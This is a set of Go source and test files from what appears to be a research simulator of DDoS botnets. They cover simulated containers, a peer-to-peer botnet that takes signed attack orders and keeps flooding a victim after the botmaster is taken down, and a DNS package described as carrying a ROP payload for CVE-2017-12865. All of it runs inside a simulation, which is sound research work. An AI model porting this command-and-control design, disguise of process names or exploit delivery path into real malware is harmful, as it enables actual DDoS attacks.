	// spawns happen on shard workers (loader infections, daemon
	// respawns) concurrently under the sharded kernel.
	procsSpawned atomic.Int64

	ctrShellExecs *obs.Counter
}

// Observe attaches the observability bundle: shell executions inside
// any container are counted in the registry.
func (e *Engine) Observe(o *obs.Obs) {
	e.ctrShellExecs = o.Registry().Counter("container_shell_execs_total",
		"shell scripts executed inside containers")
}

// NewEngine creates a runtime attached to the star topology.
func NewEngine(sched *sim.Scheduler, star *netsim.Star) *Engine {
	return &Engine{
		sched:     sched,
		star:      star,
		images:    make(map[string]*Image),
		byName:    make(map[string]*Container),
		factories: make(map[string]BehaviorFactory),
	}
}

// Sched reports the scheduler.
func (e *Engine) Sched() *sim.Scheduler { return e.sched }

// Star reports the topology helper.
func (e *Engine) Star() *netsim.Star { return e.star }

// Stats returns a copy of the engine counters.
func (e *Engine) Stats() EngineStats {
	st := e.stats
	st.ProcsSpawned = int(e.procsSpawned.Load())
	return st
}

// RegisterImage adds an image to the local registry.
func (e *Engine) RegisterImage(img *Image) {
	e.images[img.Ref()] = img
	e.stats.ImagesBuilt++
}

// ImageByRef looks up a registered image.
func (e *Engine) ImageByRef(ref string) (*Image, bool) {
	img, ok := e.images[ref]
	return img, ok
}

// RegisterBinary associates a simulated binary name (the middle field
// of BinaryContent) with the behaviour it runs.
func (e *Engine) RegisterBinary(name string, f BehaviorFactory) {
	e.factories[name] = f
}

// Create builds a container from an image and attaches it to the
// network. The container starts stopped; call Start.
func (e *Engine) Create(imageRef, name string, link LinkConfig) (*Container, error) {
	img, ok := e.images[imageRef]
	if !ok {
		return nil, fmt.Errorf("container: no such image %q", imageRef)
	}
	if _, dup := e.byName[name]; dup {
		return nil, fmt.Errorf("container: name %q already in use", name)
	}
	if link.Rate <= 0 {
		return nil, fmt.Errorf("container: %s: non-positive link rate", name)
	}
	node := e.star.AttachHost(name, link.Rate, link.Delay, link.QueueLimit)
	c := &Container{
		id:     fmt.Sprintf("c%04d", len(e.containers)+1),
		name:   name,
		image:  img,
		arch:   img.Arch,
		fs:     NewFS(),
		node:   node,
		engine: e,
		procs:  make(map[int]*Process),
	}
	for _, path := range img.SortedPaths() {
		c.fs.Write(path, img.Files[path])
		if img.ExecPaths[path] {
			if err := c.fs.Chmod(path, true); err != nil {
				return nil, err
			}
		}
	}
	e.containers = append(e.containers, c)
	e.byName[name] = c
	e.stats.ContainersBuilt++
	return c, nil
}

// Containers returns all containers in creation order (a copy).
func (e *Engine) Containers() []*Container {
	out := make([]*Container, len(e.containers))
	copy(out, e.containers)
	return out
}

// ByName looks up a container.
func (e *Engine) ByName(name string) (*Container, bool) {
	c, ok := e.byName[name]
	return c, ok
}

// TotalMemBytes sums MemBytes over all running containers — the
// container-side input to the Table I memory model.
func (e *Engine) TotalMemBytes() int {
	n := 0
	for _, c := range e.containers {
		if c.running {
			n += c.MemBytes()
		}
	}
	return n
}
