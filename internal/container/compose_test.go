package container

import (
	"testing"

	"ddosim/internal/netsim"
	"ddosim/internal/sim"
)

func TestDeployReplicas(t *testing.T) {
	r := newRig(t)
	r.engine.RegisterBinary("testd", func(args []string) Behavior { return &stubBehavior{name: "testd"} })
	r.engine.RegisterImage(devImage("x86_64"))

	setups := 0
	dep := Deployment{Services: []ServiceSpec{
		{
			Name:     "dev",
			ImageRef: "ddosim/dev-test:1.0",
			Replicas: 5,
			Link:     LinkConfig{Rate: netsim.Mbps, Delay: sim.Millisecond},
			RateFor:  DefaultDevLink(r.sched),
			Files:    map[string][]byte{"/etc/resolv.conf": []byte("nameserver 10.0.0.1\n")},
			Setup: func(c *Container, replica int) error {
				setups++
				return nil
			},
		},
		{
			Name:     "tserver-proxy",
			ImageRef: "ddosim/dev-test:1.0",
			Link:     LinkConfig{Rate: 10 * netsim.Mbps, Delay: sim.Millisecond},
		},
	}}
	got, err := dep.Deploy(r.engine)
	if err != nil {
		t.Fatal(err)
	}
	if len(got["dev"]) != 5 || len(got["tserver-proxy"]) != 1 {
		t.Fatalf("groups = %d/%d", len(got["dev"]), len(got["tserver-proxy"]))
	}
	if setups != 5 {
		t.Fatalf("setups = %d", setups)
	}
	if got["dev"][0].Name() != "dev-001" || got["tserver-proxy"][0].Name() != "tserver-proxy" {
		t.Fatalf("names = %q %q", got["dev"][0].Name(), got["tserver-proxy"][0].Name())
	}
	for _, c := range got["dev"] {
		if !c.Running() {
			t.Fatalf("%s not running", c.Name())
		}
		if data, ok := c.FS().Read("/etc/resolv.conf"); !ok || len(data) == 0 {
			t.Fatalf("%s missing provisioned file", c.Name())
		}
		rate := c.Node().DefaultDevice().Rate()
		if rate < 100*netsim.Kbps || rate > 500*netsim.Kbps {
			t.Fatalf("%s rate %v outside the Dev range", c.Name(), rate)
		}
	}
}

func TestDeployRollsBackOnError(t *testing.T) {
	r := newRig(t)
	r.engine.RegisterBinary("testd", func(args []string) Behavior { return &stubBehavior{name: "testd"} })
	r.engine.RegisterImage(devImage("x86_64"))
	dep := Deployment{Services: []ServiceSpec{
		{Name: "ok", ImageRef: "ddosim/dev-test:1.0", Replicas: 2,
			Link: LinkConfig{Rate: netsim.Mbps}},
		{Name: "broken", ImageRef: "missing:tag",
			Link: LinkConfig{Rate: netsim.Mbps}},
	}}
	if _, err := dep.Deploy(r.engine); err == nil {
		t.Fatal("missing image accepted")
	}
	// The successfully-created containers were stopped.
	for _, c := range r.engine.Containers() {
		if c.Running() {
			t.Fatalf("%s still running after rollback", c.Name())
		}
	}
}

func TestDeployValidation(t *testing.T) {
	r := newRig(t)
	r.engine.RegisterImage(devImage("x86_64"))
	dep := Deployment{Services: []ServiceSpec{{ImageRef: "ddosim/dev-test:1.0", Link: LinkConfig{Rate: netsim.Mbps}}}}
	if _, err := dep.Deploy(r.engine); err == nil {
		t.Fatal("unnamed service accepted")
	}
}
