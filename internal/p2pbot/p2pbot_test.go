package p2pbot

import (
	"fmt"
	"net/netip"
	"testing"

	"ddosim/internal/container"
	"ddosim/internal/mirai"
	"ddosim/internal/netsim"
	"ddosim/internal/sim"
)

func testKey() ([32]byte, [32]byte) {
	var seed [32]byte
	for i := range seed {
		seed[i] = byte(i * 7)
	}
	var other [32]byte
	for i := range other {
		other[i] = byte(i*3 + 1)
	}
	return seed, other
}

func TestRecordSignVerify(t *testing.T) {
	seed, otherSeed := testKey()
	pub, priv := DeriveKey(seed)
	otherPub, _ := DeriveKey(otherSeed)

	rec := &Record{
		Seq:    3,
		Method: mirai.MethodUDPPlain,
		Target: netip.MustParseAddrPort("10.0.9.9:80"),
		Until:  1234 * sim.Second,
	}
	data := rec.Encode(priv)
	got, err := DecodeRecord(pub, data)
	if err != nil {
		t.Fatal(err)
	}
	if *got != *rec {
		t.Fatalf("round trip mismatch: %+v vs %+v", got, rec)
	}
	// Wrong key.
	if _, err := DecodeRecord(otherPub, data); err == nil {
		t.Fatal("foreign public key must not verify")
	}
	// Bit flip in the body.
	tampered := append([]byte(nil), data...)
	tampered[3] ^= 0x40
	if _, err := DecodeRecord(pub, tampered); err == nil {
		t.Fatal("tampered record must not verify")
	}
	// Truncation.
	if _, err := DecodeRecord(pub, data[:10]); err == nil {
		t.Fatal("truncated record must not verify")
	}
	// IPv6 target.
	rec6 := &Record{Seq: 4, Method: mirai.MethodSYN,
		Target: netip.MustParseAddrPort("[2001:db8::9]:443"), Until: 99 * sim.Second}
	got6, err := DecodeRecord(pub, rec6.Encode(priv))
	if err != nil {
		t.Fatal(err)
	}
	if *got6 != *rec6 {
		t.Fatalf("v6 round trip mismatch: %+v vs %+v", got6, rec6)
	}
}

// ---------------------------------------------------------------------
// Overlay integration

type botnet struct {
	sched  *sim.Scheduler
	engine *container.Engine
	seedC  *container.Container
	seeder *Seeder
	bots   []*Bot
	botCs  []*container.Container
	victim netip.AddrPort
}

func (bn *botnet) runFor(t *testing.T, d sim.Time) {
	t.Helper()
	if err := bn.sched.Run(bn.sched.Now() + d); err != nil {
		t.Fatal(err)
	}
}

func newBotnet(t *testing.T, seedVal int64, nBots int) *botnet {
	t.Helper()
	sched := sim.NewScheduler(seedVal)
	star := netsim.NewStar(netsim.New(sched))
	eng := container.NewEngine(sched, star)
	bn := &botnet{sched: sched, engine: eng}

	mk := func(name string, rate netsim.DataRate) *container.Container {
		img := &container.Image{Name: "ddosim/" + name, Tag: "t", Arch: "x86_64",
			Files: map[string][]byte{}, ExecPaths: map[string]bool{}}
		eng.RegisterImage(img)
		c, err := eng.Create("ddosim/"+name+":t", name,
			container.LinkConfig{Rate: rate, Delay: sim.Millisecond})
		if err != nil {
			t.Fatal(err)
		}
		if err := c.Start(); err != nil {
			t.Fatal(err)
		}
		return c
	}

	keySeed, _ := testKey()
	pub, priv := DeriveKey(keySeed)

	bn.seedC = mk("seed", 100*netsim.Mbps)
	bn.seeder = NewSeeder(SeederConfig{Key: priv, RepublishPeriod: 10 * sim.Second})
	bn.seedC.Spawn(bn.seeder)
	boot := []netip.AddrPort{bn.seeder.Node().Addr()}

	victimC := mk("victim", 100*netsim.Mbps)
	bn.victim = netip.AddrPortFrom(victimC.Node().Addr4(), 80)

	for i := 0; i < nBots; i++ {
		c := mk(fmt.Sprintf("bot-%d", i), 1*netsim.Mbps)
		bot := NewBot(BotConfig{Bootstrap: boot, PubKey: pub, PollPeriod: 10 * sim.Second})
		// Stagger infection like the exploit campaign would.
		delay := sim.Time(i) * 200 * sim.Millisecond
		sched.Schedule(delay, func() { c.Spawn(bot) })
		bn.bots = append(bn.bots, bot)
		bn.botCs = append(bn.botCs, c)
	}
	return bn
}

func (bn *botnet) attackers() int {
	n := 0
	for _, b := range bn.bots {
		if b.Attacking() {
			n++
		}
	}
	return n
}

func TestCommandDisseminatesAndFloodsStart(t *testing.T) {
	bn := newBotnet(t, 21, 10)
	bn.runFor(t, 30*sim.Second)

	for i, b := range bn.bots {
		if !b.Joined() {
			t.Fatalf("bot %d never joined the overlay", i)
		}
	}
	if bn.seeder.Contacts < len(bn.bots) {
		t.Fatalf("seeder census saw %d peers, want >= %d", bn.seeder.Contacts, len(bn.bots))
	}

	until := bn.sched.Now() + 5*sim.Minute
	bn.seeder.PublishAttack(mirai.MethodUDPPlain, bn.victim, until)
	// One poll period plus lookup time disseminates to everyone.
	bn.runFor(t, 30*sim.Second)

	if got := bn.attackers(); got != len(bn.bots) {
		t.Fatalf("%d/%d bots attacking after dissemination window", got, len(bn.bots))
	}
	for i, b := range bn.bots {
		if b.CommandsSeen != 1 {
			t.Fatalf("bot %d saw %d commands, want 1 (republish must not re-trigger)", i, b.CommandsSeen)
		}
	}
}

func TestFloodSurvivesSeederTakedown(t *testing.T) {
	bn := newBotnet(t, 21, 10)
	bn.runFor(t, 30*sim.Second)

	until := bn.sched.Now() + 5*sim.Minute
	bn.seeder.PublishAttack(mirai.MethodUDPPlain, bn.victim, until)
	bn.runFor(t, 30*sim.Second)
	if got := bn.attackers(); got != len(bn.bots) {
		t.Fatalf("precondition: %d/%d attacking", got, len(bn.bots))
	}

	// Take the seeder down hard: process killed, link severed.
	for _, p := range bn.seedC.Procs() {
		bn.seedC.Kill(p.PID())
	}
	bn.seedC.Node().DefaultDevice().SetUp(false)

	before := make([]uint64, len(bn.bots))
	for i, b := range bn.bots {
		before[i] = b.PacketsSent()
	}
	bn.runFor(t, 2*sim.Minute)
	for i, b := range bn.bots {
		if !b.Attacking() {
			t.Fatalf("bot %d stopped attacking after seeder takedown", i)
		}
		if b.PacketsSent() <= before[i] {
			t.Fatalf("bot %d flood stalled after takedown", i)
		}
	}

	// A bot infected AFTER the takedown still finds the record in the
	// surviving replicas (it must bootstrap off a live peer).
	lateC := func() *container.Container {
		img := &container.Image{Name: "ddosim/late", Tag: "t", Arch: "x86_64",
			Files: map[string][]byte{}, ExecPaths: map[string]bool{}}
		bn.engine.RegisterImage(img)
		c, err := bn.engine.Create("ddosim/late:t", "late",
			container.LinkConfig{Rate: 1 * netsim.Mbps, Delay: sim.Millisecond})
		if err != nil {
			t.Fatal(err)
		}
		if err := c.Start(); err != nil {
			t.Fatal(err)
		}
		return c
	}()
	keySeed, _ := testKey()
	pub, _ := DeriveKey(keySeed)
	late := NewBot(BotConfig{
		Bootstrap:  []netip.AddrPort{bn.bots[0].Node().Addr(), bn.bots[1].Node().Addr()},
		PubKey:     pub,
		PollPeriod: 10 * sim.Second,
	})
	lateC.Spawn(late)
	bn.runFor(t, 30*sim.Second)
	if !late.Attacking() {
		t.Fatal("post-takedown recruit never learned the command from replicas")
	}

	// And the whole campaign winds down at the record's end time.
	bn.runFor(t, 5*sim.Minute)
	if got := bn.attackers(); got != 0 {
		t.Fatalf("%d bots still attacking past campaign end", got)
	}
}

func TestFresherRecordSupersedes(t *testing.T) {
	bn := newBotnet(t, 21, 6)
	bn.runFor(t, 30*sim.Second)

	v1End := bn.sched.Now() + 10*sim.Minute
	bn.seeder.PublishAttack(mirai.MethodUDPPlain, bn.victim, v1End)
	bn.runFor(t, 30*sim.Second)

	// Re-target: fresh record, new method.
	victim2 := netip.AddrPortFrom(bn.seedC.Node().Addr4(), 443)
	bn.seeder.PublishAttack(mirai.MethodSYN, victim2, v1End)
	bn.runFor(t, 30*sim.Second)
	for i, b := range bn.bots {
		if b.CommandsSeen != 2 {
			t.Fatalf("bot %d saw %d commands, want 2", i, b.CommandsSeen)
		}
	}
}

func TestDeterministicAcrossRuns(t *testing.T) {
	sig := func() string {
		bn := newBotnet(t, 21, 8)
		bn.runFor(t, 30*sim.Second)
		bn.seeder.PublishAttack(mirai.MethodUDPPlain, bn.victim, bn.sched.Now()+2*sim.Minute)
		bn.runFor(t, 90*sim.Second)
		s := ""
		for i, b := range bn.bots {
			s += fmt.Sprintf("%d:%d:%d:%d;", i, b.PacketsSent(), b.Polls, b.Node().RPCsSent)
		}
		return s + fmt.Sprintf("seed:%d", bn.seeder.Contacts)
	}
	a, b := sig(), sig()
	if a != b {
		t.Fatalf("same-seed runs diverged:\n%s\n%s", a, b)
	}
}
