package p2pbot

import (
	"crypto/ed25519"
	"fmt"
	"net/netip"

	"ddosim/internal/container"
	"ddosim/internal/dht"
	"ddosim/internal/mirai"
	"ddosim/internal/sim"
)

// BotConfig is baked into the P2P bot binary.
type BotConfig struct {
	// Bootstrap lists overlay entry endpoints (the seeder, typically).
	Bootstrap []netip.AddrPort
	// PubKey authenticates command records.
	PubKey ed25519.PublicKey
	// PollPeriod is the command-poll interval; each bot's actual
	// period gets a one-time uniform jitter in [0, PollPeriod) from
	// its own RNG stream so the fleet's polls don't synchronize.
	// Default 30 s.
	PollPeriod sim.Time
	// PayloadBytes sizes UDP-PLAIN flood padding (mirai default).
	PayloadBytes int
	// StartJitter models host task queuing before the flood starts,
	// exactly as mirai.BotConfig.StartJitter.
	StartJitter sim.Time
	// DHT tunes the underlying node.
	DHT dht.Config
	// OnAttackStart observes each bot's first flood packet instant.
	OnAttackStart func(addr netip.Addr)
}

// Bot is the P2P bot behaviour: join the overlay, learn the signed
// command record (by poll or by replica push), flood until the
// record's campaign end. Its only dependence on the botmaster after
// infection is cryptographic, not topological.
type Bot struct {
	cfg BotConfig
	p   *container.Process

	node    *dht.Node
	flood   *mirai.Flooder
	poll    *sim.Ticker
	cmdKey  dht.ID
	lastSeq uint64
	joined  bool

	// Counters for tests.
	CommandsSeen int
	Polls        int
}

var _ container.Behavior = (*Bot)(nil)

// NewBot creates the behaviour.
func NewBot(cfg BotConfig) *Bot {
	if cfg.PollPeriod <= 0 {
		cfg.PollPeriod = 30 * sim.Second
	}
	return &Bot{cfg: cfg, cmdKey: dht.Key(CommandChannel)}
}

// BotFactory adapts NewBot to the binary registry; the attacker
// registers it in place of the Mirai bot when Config.Botnet is "p2p".
func BotFactory(cfg BotConfig) container.BehaviorFactory {
	return func(args []string) container.Behavior { return NewBot(cfg) }
}

// Name implements container.Behavior.
func (b *Bot) Name() string { return "p2pbot" }

// Joined reports whether the overlay join completed.
func (b *Bot) Joined() bool { return b.joined }

// Attacking reports whether the flood engine is live.
func (b *Bot) Attacking() bool { return b.flood != nil && b.flood.Attacking() }

// PacketsSent reports flood packets emitted so far.
func (b *Bot) PacketsSent() uint64 {
	if b.flood == nil {
		return 0
	}
	return b.flood.Sent()
}

// Node exposes the underlying DHT node (tests, reports).
func (b *Bot) Node() *dht.Node { return b.node }

// Start implements container.Behavior.
func (b *Bot) Start(p *container.Process) {
	b.p = p
	b.flood = mirai.NewFlooder(p, b.cfg.PayloadBytes)

	// Same camouflage as the Mirai bot: scribbled title, family tag.
	title := make([]byte, 10)
	for i := range title {
		title[i] = byte('a' + p.RNG().Intn(26))
	}
	p.SetTitle(string(title))
	p.SetTag("malware", "p2p")

	b.node = dht.New(p, b.cfg.DHT)
	if err := b.node.Start(p.Node().Addr4()); err != nil {
		p.Logf("p2pbot: %v", err)
		return
	}
	// Replica pushes (STORE from K-closest placement, republish, or a
	// neighbour's path caching) deliver commands without waiting for
	// the next poll — the "subscribe" half of poll/subscribe.
	b.node.OnStore = func(key dht.ID, value []byte, seq uint64) {
		if key == b.cmdKey {
			b.handleRecord(value)
		}
	}
	b.node.Join(b.cfg.Bootstrap, func(int) {
		b.joined = true
		b.pollOnce()
	})
	// Desynchronize the fleet's poll phase once per bot; the ticker
	// then holds the offset forever.
	b.p.Sched().Schedule(sim.Time(p.RNG().Int63n(int64(b.cfg.PollPeriod))), func() {
		if !p.Alive() {
			return
		}
		b.poll = p.NewTicker(b.cfg.PollPeriod, b.pollOnce)
		b.poll.Source = "p2p.poll"
		b.poll.StartImmediate()
	})
}

// Stop implements container.Behavior.
func (b *Bot) Stop(*container.Process) {
	if b.flood != nil {
		b.flood.Stop()
	}
	if b.node != nil {
		b.node.Close()
	}
}

// pollOnce resolves the command key through the overlay.
func (b *Bot) pollOnce() {
	if !b.p.Alive() {
		return
	}
	b.Polls++
	b.node.Get(b.cmdKey, func(value []byte, _ uint64, found bool) {
		if found {
			b.handleRecord(value)
		}
	})
}

// handleRecord authenticates a record and acts on fresh ones.
func (b *Bot) handleRecord(value []byte) {
	rec, err := DecodeRecord(b.cfg.PubKey, value)
	if err != nil {
		b.p.Logf("p2pbot: rejecting record: %v", err)
		return
	}
	if rec.Seq <= b.lastSeq {
		return
	}
	b.lastSeq = rec.Seq
	b.CommandsSeen++
	if b.p.Sched().Now() >= rec.Until {
		return // expired campaign
	}
	var onStart func()
	if b.cfg.OnAttackStart != nil {
		hook, addr := b.cfg.OnAttackStart, b.p.Node().Addr4()
		onStart = func() { hook(addr) }
	}
	b.flood.LaunchUntil(rec.Method, rec.Target, rec.Until, b.cfg.StartJitter, onStart)
}

// String aids debugging.
func (b *Bot) String() string {
	return fmt.Sprintf("p2pbot(joined=%v attacking=%v seq=%d)", b.joined, b.Attacking(), b.lastSeq)
}
