// Package p2pbot implements the decentralized botnet family: bots
// join a Kademlia overlay (internal/dht), poll a signed command record
// replicated across the peers themselves, and run the same flood
// engine as their Mirai siblings (internal/mirai). There is no C&C
// connection to sever — the takedown-resilience contrast the paper's
// §V resilience story needs a baseline against.
package p2pbot

import (
	"crypto/ed25519"
	"encoding/binary"
	"fmt"
	"net/netip"

	"ddosim/internal/sim"
)

// CommandChannel is the well-known record name both families of
// overlay participant derive the command key from.
const CommandChannel = "ddosim/cmd/v1"

// Record is one signed attack order. Unlike a Mirai command — a live
// TCP line with a per-bot duration — a record names an absolute
// campaign end instant, so any replica fetched at any time yields the
// same flood window on every bot.
type Record struct {
	// Seq orders records; bots and the DHT store accept only fresher
	// sequences, so a re-published record supersedes cleanly.
	Seq uint64
	// Method is a mirai attack method name (udpplain/syn/ack).
	Method string
	// Target is the flood destination.
	Target netip.AddrPort
	// Until is the campaign's absolute end time.
	Until sim.Time
}

// Encode serializes and signs the record with the botmaster's ed25519
// key. Layout: seq(8) | until(8) | port(2) | alen(1) | addr | mlen(1)
// | method | sig(64), signature over everything before it.
func (r *Record) Encode(priv ed25519.PrivateKey) []byte {
	buf := make([]byte, 0, 96)
	buf = binary.BigEndian.AppendUint64(buf, r.Seq)
	buf = binary.BigEndian.AppendUint64(buf, uint64(r.Until))
	buf = binary.BigEndian.AppendUint16(buf, r.Target.Port())
	if r.Target.Addr().Is4() {
		a := r.Target.Addr().As4()
		buf = append(buf, 4)
		buf = append(buf, a[:]...)
	} else {
		a := r.Target.Addr().As16()
		buf = append(buf, 16)
		buf = append(buf, a[:]...)
	}
	buf = append(buf, byte(len(r.Method)))
	buf = append(buf, r.Method...)
	return append(buf, ed25519.Sign(priv, buf)...)
}

// DecodeRecord parses and authenticates a record against the
// botmaster's public key. Tampered, truncated, or foreign-key records
// are rejected — a peer cannot inject commands into the overlay.
func DecodeRecord(pub ed25519.PublicKey, data []byte) (*Record, error) {
	if len(data) < 8+8+2+1+4+1+ed25519.SignatureSize {
		return nil, fmt.Errorf("p2pbot: record too short (%d bytes)", len(data))
	}
	body, sig := data[:len(data)-ed25519.SignatureSize], data[len(data)-ed25519.SignatureSize:]
	if !ed25519.Verify(pub, body, sig) {
		return nil, fmt.Errorf("p2pbot: bad record signature")
	}
	r := &Record{
		Seq:   binary.BigEndian.Uint64(body),
		Until: sim.Time(binary.BigEndian.Uint64(body[8:])),
	}
	port := binary.BigEndian.Uint16(body[16:])
	alen := int(body[18])
	rest := body[19:]
	if (alen != 4 && alen != 16) || len(rest) < alen+1 {
		return nil, fmt.Errorf("p2pbot: bad record address")
	}
	addr, ok := netip.AddrFromSlice(rest[:alen])
	if !ok {
		return nil, fmt.Errorf("p2pbot: bad record address")
	}
	r.Target = netip.AddrPortFrom(addr, port)
	rest = rest[alen:]
	mlen := int(rest[0])
	if len(rest) < 1+mlen {
		return nil, fmt.Errorf("p2pbot: bad record method")
	}
	r.Method = string(rest[1 : 1+mlen])
	return r, nil
}

// DeriveKey expands a deterministic 32-byte seed into the botmaster
// keypair; the simulation derives the seed from the run's RNG seed so
// same-seed runs sign byte-identical records.
func DeriveKey(seed [ed25519.SeedSize]byte) (ed25519.PublicKey, ed25519.PrivateKey) {
	priv := ed25519.NewKeyFromSeed(seed[:])
	return priv.Public().(ed25519.PublicKey), priv
}
