package p2pbot

import (
	"crypto/ed25519"
	"net/netip"

	"ddosim/internal/container"
	"ddosim/internal/dht"
	"ddosim/internal/sim"
)

// SeederConfig configures the botmaster's overlay presence.
type SeederConfig struct {
	// Key signs command records.
	Key ed25519.PrivateKey
	// Bootstrap lists other overlay entry points (usually empty: the
	// seeder IS the entry point).
	Bootstrap []netip.AddrPort
	// RepublishPeriod re-replicates the live record to the current
	// K-closest set, healing churn holes. Default 30 s.
	RepublishPeriod sim.Time
	// DHT tunes the underlying node.
	DHT dht.Config
	// OnContact fires once per distinct peer address ever heard from —
	// the P2P family's recruitment census, the counterpart of Mirai's
	// CNC.OnBotRegistered.
	OnContact func(addr netip.Addr)
}

// Seeder is the botmaster's process behaviour ("p2p-seed"): the
// overlay's bootstrap node, the command publisher, and the republish
// pump. Crashing it is the P2P family's takedown analogue — and the
// point is that the already-replicated record outlives it.
type Seeder struct {
	cfg  SeederConfig
	p    *container.Process
	node *dht.Node

	cmdKey  dht.ID
	seq     uint64
	current []byte // live signed record, nil before first publish
	repub   *sim.Ticker
	seen    map[netip.Addr]bool

	// Contacts counts distinct peers heard from.
	Contacts int
	// Published counts PublishAttack calls.
	Published int
}

var _ container.Behavior = (*Seeder)(nil)

// NewSeeder creates the behaviour.
func NewSeeder(cfg SeederConfig) *Seeder {
	if cfg.RepublishPeriod <= 0 {
		cfg.RepublishPeriod = 30 * sim.Second
	}
	return &Seeder{cfg: cfg, cmdKey: dht.Key(CommandChannel), seen: make(map[netip.Addr]bool)}
}

// SeederFactory adapts NewSeeder to the binary registry.
func SeederFactory(cfg SeederConfig) container.BehaviorFactory {
	return func(args []string) container.Behavior { return NewSeeder(cfg) }
}

// Name implements container.Behavior.
func (s *Seeder) Name() string { return "p2p-seed" }

// Node exposes the underlying DHT node (tests, reports).
func (s *Seeder) Node() *dht.Node { return s.node }

// Start implements container.Behavior.
func (s *Seeder) Start(p *container.Process) {
	s.p = p
	s.node = dht.New(p, s.cfg.DHT)
	if err := s.node.Start(p.Node().Addr4()); err != nil {
		p.Logf("p2p-seed: %v", err)
		return
	}
	s.node.OnContact = func(c dht.Contact) {
		addr := c.Addr.Addr()
		if s.seen[addr] {
			return
		}
		s.seen[addr] = true
		s.Contacts++
		if s.cfg.OnContact != nil {
			s.cfg.OnContact(addr)
		}
	}
	if len(s.cfg.Bootstrap) > 0 {
		s.node.Join(s.cfg.Bootstrap, nil)
	}
	s.repub = p.NewTicker(s.cfg.RepublishPeriod, s.republish)
	s.repub.Source = "p2p.republish"
	s.repub.Start()
}

// Stop implements container.Behavior.
func (s *Seeder) Stop(*container.Process) {
	if s.node != nil {
		s.node.Close()
	}
}

// PublishAttack signs and replicates a new attack order running until
// the given absolute instant. Returns the record's sequence number.
func (s *Seeder) PublishAttack(method string, target netip.AddrPort, until sim.Time) uint64 {
	s.seq++
	rec := &Record{Seq: s.seq, Method: method, Target: target, Until: until}
	s.current = rec.Encode(s.cfg.Key)
	s.Published++
	s.node.Put(s.cmdKey, s.current, s.seq, nil)
	return s.seq
}

// republish re-replicates the live record to the current K-closest
// set; stale copies lose on seq, so this is idempotent.
func (s *Seeder) republish() {
	if s.current == nil || !s.p.Alive() {
		return
	}
	s.node.Put(s.cmdKey, s.current, s.seq, nil)
}
