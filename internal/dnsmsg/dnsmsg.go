// Package dnsmsg implements the subset of the DNS wire format
// (RFC 1035) DDoSim needs: queries and responses with A/TXT answer
// records. Connman Devs resolve names through this format against the
// attacker's malicious DNS server, which smuggles the ROP payload in
// an answer's RDATA — the delivery vehicle for CVE-2017-12865.
package dnsmsg

import (
	"encoding/binary"
	"errors"
	"fmt"
	"strings"
)

// Record types.
const (
	TypeA   uint16 = 1
	TypeTXT uint16 = 16
)

// ClassIN is the Internet class.
const ClassIN uint16 = 1

// Header flag bits (QR is the response bit).
const (
	FlagResponse uint16 = 1 << 15
	FlagRD       uint16 = 1 << 8
	FlagRA       uint16 = 1 << 7
)

// Errors returned by Decode.
var (
	ErrTruncated = errors.New("dnsmsg: truncated message")
	ErrBadName   = errors.New("dnsmsg: malformed name")
)

// Question is a single query entry.
type Question struct {
	Name  string
	Type  uint16
	Class uint16
}

// Record is a resource record in the answer section.
type Record struct {
	Name  string
	Type  uint16
	Class uint16
	TTL   uint32
	Data  []byte
}

// Message is a DNS query or response.
type Message struct {
	ID        uint16
	Flags     uint16
	Questions []Question
	Answers   []Record
}

// IsResponse reports whether the QR bit is set.
func (m *Message) IsResponse() bool { return m.Flags&FlagResponse != 0 }

// NewQuery builds a recursive query for one name.
func NewQuery(id uint16, name string, qtype uint16) *Message {
	return &Message{
		ID:        id,
		Flags:     FlagRD,
		Questions: []Question{{Name: name, Type: qtype, Class: ClassIN}},
	}
}

// NewResponse builds a response answering q with a single record whose
// RDATA is data.
func NewResponse(q *Message, rtype uint16, ttl uint32, data []byte) *Message {
	resp := &Message{
		ID:    q.ID,
		Flags: FlagResponse | FlagRA,
	}
	resp.Questions = append(resp.Questions, q.Questions...)
	name := ""
	if len(q.Questions) > 0 {
		name = q.Questions[0].Name
	}
	resp.Answers = append(resp.Answers, Record{
		Name: name, Type: rtype, Class: ClassIN, TTL: ttl, Data: data,
	})
	return resp
}

// Encode renders the message in wire format.
func (m *Message) Encode() []byte {
	var b []byte
	b = binary.BigEndian.AppendUint16(b, m.ID)
	b = binary.BigEndian.AppendUint16(b, m.Flags)
	b = binary.BigEndian.AppendUint16(b, uint16(len(m.Questions)))
	b = binary.BigEndian.AppendUint16(b, uint16(len(m.Answers)))
	b = binary.BigEndian.AppendUint16(b, 0) // NSCOUNT
	b = binary.BigEndian.AppendUint16(b, 0) // ARCOUNT
	for _, q := range m.Questions {
		b = appendName(b, q.Name)
		b = binary.BigEndian.AppendUint16(b, q.Type)
		b = binary.BigEndian.AppendUint16(b, q.Class)
	}
	for _, a := range m.Answers {
		b = appendName(b, a.Name)
		b = binary.BigEndian.AppendUint16(b, a.Type)
		b = binary.BigEndian.AppendUint16(b, a.Class)
		b = binary.BigEndian.AppendUint32(b, a.TTL)
		b = binary.BigEndian.AppendUint16(b, uint16(len(a.Data)))
		b = append(b, a.Data...)
	}
	return b
}

func appendName(b []byte, name string) []byte {
	name = strings.TrimSuffix(name, ".")
	if name != "" {
		for _, label := range strings.Split(name, ".") {
			if len(label) > 63 {
				label = label[:63]
			}
			b = append(b, byte(len(label)))
			b = append(b, label...)
		}
	}
	return append(b, 0)
}

// Decode parses a wire-format message.
func Decode(b []byte) (*Message, error) {
	if len(b) < 12 {
		return nil, ErrTruncated
	}
	m := &Message{
		ID:    binary.BigEndian.Uint16(b[0:2]),
		Flags: binary.BigEndian.Uint16(b[2:4]),
	}
	qd := int(binary.BigEndian.Uint16(b[4:6]))
	an := int(binary.BigEndian.Uint16(b[6:8]))
	off := 12
	for i := 0; i < qd; i++ {
		name, n, err := readName(b, off)
		if err != nil {
			return nil, err
		}
		off = n
		if off+4 > len(b) {
			return nil, ErrTruncated
		}
		m.Questions = append(m.Questions, Question{
			Name:  name,
			Type:  binary.BigEndian.Uint16(b[off : off+2]),
			Class: binary.BigEndian.Uint16(b[off+2 : off+4]),
		})
		off += 4
	}
	for i := 0; i < an; i++ {
		name, n, err := readName(b, off)
		if err != nil {
			return nil, err
		}
		off = n
		if off+10 > len(b) {
			return nil, ErrTruncated
		}
		rec := Record{
			Name:  name,
			Type:  binary.BigEndian.Uint16(b[off : off+2]),
			Class: binary.BigEndian.Uint16(b[off+2 : off+4]),
			TTL:   binary.BigEndian.Uint32(b[off+4 : off+8]),
		}
		rdlen := int(binary.BigEndian.Uint16(b[off+8 : off+10]))
		off += 10
		if off+rdlen > len(b) {
			return nil, ErrTruncated
		}
